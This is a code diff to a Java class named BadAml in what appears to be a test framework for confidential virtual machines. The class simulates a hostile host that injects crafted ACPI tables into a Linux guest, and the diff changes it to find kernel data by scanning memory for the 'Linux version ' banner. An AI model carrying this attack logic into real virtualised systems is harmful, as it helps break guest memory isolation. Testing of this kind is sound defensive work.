@@ -3,7 +3,6 @@ package dev.vesper.cli.attack;
 import dev.vesper.machine.Machine;
 import dev.vesper.machine.Stop;
 import dev.vesper.machine.Until;
-import dev.vesper.machine.VcpuView;
 import dev.vesper.machine.hostile.Hex;
 import dev.vesper.machine.hostile.HostValue;
 import dev.vesper.machine.hostile.LawfulAction;
@@ -30,8 +29,12 @@ final class BadAml {
   private static final String NEEDS = "Linux, which is given ACPI tables in memory";
   private static final String ORACLE = "the plaintext of the kernel's own data is the host's";
 
-  /** What the kernel has for itself and never writes. */
-  private static final String VICTIM = "linux_banner";
+  /** How linux_banner begins, which the kernel has for itself and never writes. */
+  private static final byte[] VICTIM = ascii("Linux version ");
+
+  // Where the kernel lies that is not moved about, physical.
+  private static final int KERNEL = 0x100_0000;
+  private static final int KERNEL_BYTES = 0x400_0000;
 
   /** By then the kernel has executed the tables. */
   private static final String LATER = "syscall_return_via_sysret";
@@ -77,15 +80,14 @@ final class BadAml {
     String digest;
     try (Trial t = run.trial(level)) {
       Machine m = t.machine();
-      byte[] area = m.observer().readPrivate(AREA, AREA_BYTES);
+      byte[] area = m.observer().readAsTouched(AREA, AREA_BYTES);
       digest = m.launchDigest();
       Stop s = m.run(Until.symbol("kernel_init_freeable").or(Until.instructions(t.most())));
-      VcpuView v = m.observer().current();
-      long linear = KernelAccess.address(m.symbols(v), VICTIM).orElse(-1);
-      if (!(s instanceof Stop.Breakpoint) || linear == -1) {
+      int at = s instanceof Stop.Breakpoint ? victim(m) : -1;
+      if (at < 0) {
         return Verdict.notApplicable("the kernel does not come so far, or has no such data");
       }
-      gpa = v.physical(linear);
+      gpa = KERNEL + at;
       good = m.observer().readPrivate(gpa, Long.BYTES);
       Script made = script(area, gpa);
       if (made == null) {
@@ -147,6 +149,17 @@ final class BadAml {
         .lawful(new Trigger.LaunchStep(Trigger.Step.LOADED))
         .perform(write(at, ssdt), write(root, list), write(rsdp, head.array()))
         .build();
+  }
+
+  /** {@return where the kernel has the victim, from its own beginning, or -1} */
+  private static int victim(Machine m) {
+    byte[] kernel = m.observer().readPrivate(KERNEL, KERNEL_BYTES);
+    for (int i = 0; i + VICTIM.length <= kernel.length; i += Long.BYTES) {
+      if (Arrays.equals(kernel, i, i + VICTIM.length, VICTIM, 0, VICTIM.length)) {
+        return i;
+      }
+    }
+    return -1;
   }
 
   private static LawfulAction write(int at, byte[] bytes) {
